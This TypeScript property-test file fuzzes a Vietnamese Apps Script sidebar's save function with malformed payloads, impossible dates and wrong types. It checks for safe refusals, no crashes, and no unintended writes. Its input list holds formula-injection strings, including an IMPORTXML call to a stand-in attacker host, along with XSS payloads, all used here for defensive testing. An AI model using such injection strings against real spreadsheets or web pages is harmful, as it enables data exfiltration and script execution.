// Property tests: generated bad payloads thrown at sidebarSave through dist/Code.js, as google.script.run
// would send them. Each gets a Vietnamese refusal or a safe success, never a crash, and a refusal writes
// nothing (every tab but the log is unchanged).
import {readFileSync} from 'node:fs';
import {join} from 'node:path';
import fc from 'fast-check';
import {Workspace} from '../../emulator';
import {createVmContext, loadScript} from '../../emulator/vm';

const ADMIN = 'admin@example.com';
const UNIT_EMAIL = 'donvi@example.com';
const LOG_TAB = 'Nhật ký';
const code = readFileSync(join(__dirname, '../../dist/Code.js'), 'utf8');

/** Letters only Vietnamese uses: a message with none is not a Vietnamese message. */
const VIETNAMESE =
  /[àáạảãâầấậẩẫăằắặẳẵèéẹẻẽêềếệểễìíịỉĩòóọỏõôồốộổỗơờớợởỡùúụủũưừứựửữỳýỵỷỹđ]/i;

interface Loaded {
  ok: boolean;
  assignments?: Array<{id: string; version: number; stamp: string}>;
}

interface Saved {
  ok: boolean;
  code?: string;
  message?: string;
}

let ws: Workspace;

/** Sets the e-mail of the first unit that is not a village, then re-runs set-up. */
function newWorkspace(): Workspace {
  const w = new Workspace({
    owner: ADMIN,
    now: new Date('2025-08-27T01:00:00Z'),
  });
  loadScript(
    createVmContext(w, {
      console: {log() {}, info() {}, warn() {}, error() {}},
    }),
    code,
  );
  w.installGlobals();
  w.callFunction(ADMIN, 'setupWorkbook');
  w.uncounted(() =>
    w.run(ADMIN, () => {
      const sheet = SpreadsheetApp.getActive().getSheetByName('Đơn vị');
      if (!sheet) throw new Error('no units tab');
      const values = sheet.getDataRange().getValues();
      const head = values[0].map(String);
      const kind = head.indexOf('Loại');
      const email = head.findIndex(h => h.startsWith('Email'));
      const i = values.findIndex((r, n) => n > 0 && r[kind] !== 'Thôn');
      sheet.getRange(i + 1, email + 1).setValue(UNIT_EMAIL);
    }),
  );
  w.callFunction(ADMIN, 'setupWorkbook');
  return w;
}

beforeAll(() => {
  ws = newWorkspace();
});
afterAll(() => ws.uninstallGlobals());

let cached: {id: string; version: number; stamp: string} | null = null;

/** The unit's first assignment as the sidebar loaded it (loaded again after an accepted save). */
function firstAssignment(): {id: string; version: number; stamp: string} {
  if (cached) return cached;
  const load = ws.scriptRun(UNIT_EMAIL, 'sidebarLoad', []) as Loaded;
  const a = load.ok ? load.assignments?.[0] : undefined;
  if (!a) throw new Error('the unit has no assignment to edit');
  cached = a;
  return a;
}

function snapshot(): string {
  return JSON.stringify(
    ws.boundSpreadsheet.sheets
      .filter(s => s.name !== LOG_TAB)
      .map(s => [s.name, ws.sheetValues(s.name)]),
  );
}

/** Saves `payload` as the unit; checks the outcome and, on refusal, that nothing but the log changed. */
function check(payload: unknown): Saved {
  const before = snapshot();
  let result: Saved;
  expect(() => {
    result = ws.scriptRun(UNIT_EMAIL, 'sidebarSave', [payload]) as Saved;
  }).not.toThrow();
  result = result!;
  if (result.ok) cached = null;
  expect(typeof result).toBe('object');
  expect(typeof result.ok).toBe('boolean');
  if (!result.ok) {
    expect(typeof result.message).toBe('string');
    expect(result.message).toMatch(VIETNAMESE);
    expect(result.code).not.toBe('error');
    expect(snapshot()).toBe(before);
  }
  return result;
}

const nasty = fc.oneof(
  fc.string(),
  fc.string({unit: 'binary', maxLength: 40}),
  fc.constantFrom(
    '=IMPORTXML("http://evil.example","//a")',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '\u0000\u0007\u001b[31m\r\n\t',
    '\u202e\ufeff\ud800',
    'x'.repeat(60000),
    'Ấ'.repeat(5001),
  ),
);

const badDate = fc.oneof(
  fc.constantFrom(
    '2025-02-30',
    '2025-13-01',
    '31/02/2025',
    '00/00/0000',
    '9999-99-99',
    '2025-9-1',
    'hôm qua',
    '',
    '1800-01-01',
    '3000-01-01',
  ),
  fc.string({maxLength: 12}),
);

const wrongType = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  fc.double(),
  fc.integer(),
  fc.array(fc.string(), {maxLength: 3}),
  fc.dictionary(fc.string({maxLength: 5}), fc.string({maxLength: 5}), {
    maxKeys: 3,
  }),
  nasty,
);

const FIELDS = [
  'id',
  'version',
  'stamp',
  'progress',
  'completedOn',
  'result',
  'evidence',
  'proposals',
] as const;

describe('sidebarSave with bad input (bundle)', () => {
  it('refuses payloads that are not objects', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.constant(null),
          fc.jsonValue({maxDepth: 2}),
          fc.array(fc.jsonValue({maxDepth: 1}), {maxLength: 4}),
        ),
        payload => {
          const r = check(payload);
          if (payload === null || typeof payload !== 'object')
            expect(r.ok).toBe(false);
        },
      ),
      {numRuns: 40},
    );
  });

  it('refuses or safely stores a valid payload with one field of the wrong type, missing or odd', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...FIELDS),
        fc.oneof(wrongType, fc.constant(undefined)),
        fc.dictionary(fc.string({maxLength: 8}), fc.jsonValue({maxDepth: 1}), {
          maxKeys: 3,
        }),
        (field, value, extra) => {
          const a = firstAssignment();
          const payload: Record<string, unknown> = {
            ...extra,
            id: a.id,
            version: a.version,
            stamp: a.stamp,
            progress: 'in_progress',
            completedOn: null,
            result: 'Đang triển khai',
            evidence: '',
            proposals: '',
          };
          const originalType = typeof payload[field];
          if (value === undefined) delete payload[field];
          else payload[field] = value;
          const r = check(payload);
          const identifies = field === 'id' || field === 'version';
          if (identifies && typeof value !== originalType)
            expect(r.ok).toBe(false);
        },
      ),
      {numRuns: 40},
    );
  });

  it('refuses impossible completion dates', () => {
    fc.assert(
      fc.property(badDate, date => {
        const a = firstAssignment();
        check({
          id: a.id,
          version: a.version,
          stamp: a.stamp,
          progress: 'done',
          completedOn: date,
          result: 'Xong',
          evidence: '',
          proposals: '',
        });
      }),
      {numRuns: 40},
    );
  });

  it('stores formula and HTML text as plain text, or refuses it', () => {
    fc.assert(
      fc.property(nasty, nasty, nasty, (result, evidence, proposals) => {
        const a = firstAssignment();
        const r = check({
          id: a.id,
          version: a.version,
          stamp: a.stamp,
          progress: 'in_progress',
          completedOn: null,
          result,
          evidence,
          proposals,
        });
        if (r.ok) {
          // Nothing the unit typed may become a formula in the workbook.
          for (const s of ws.boundSpreadsheet.sheets) {
            const formulas = ws.uncounted(() =>
              ws.run(ADMIN, () =>
                SpreadsheetApp.getActive()
                  .getSheetByName(s.name)!
                  .getDataRange()
                  .getFormulas()
                  .flat()
                  .filter(f => f !== ''),
              ),
            );
            for (const f of formulas) {
              expect(f).not.toContain('IMPORTXML');
              expect(f).not.toContain('SUM(A1)');
            }
          }
        }
      }),
      {numRuns: 30},
    );
  });

  it('refuses unknown ids and versions with a Vietnamese message', () => {
    fc.assert(
      fc.property(
        fc.oneof(fc.string({maxLength: 30}), fc.constant('99|NOPE|lead')),
        fc.integer({min: -5, max: 1000000}),
        (id, version) => {
          const r = check({
            id,
            version,
            progress: 'in_progress',
            completedOn: null,
            result: '',
            evidence: '',
            proposals: '',
          });
          expect(r.ok).toBe(false);
        },
      ),
      {numRuns: 40},
    );
  });
});
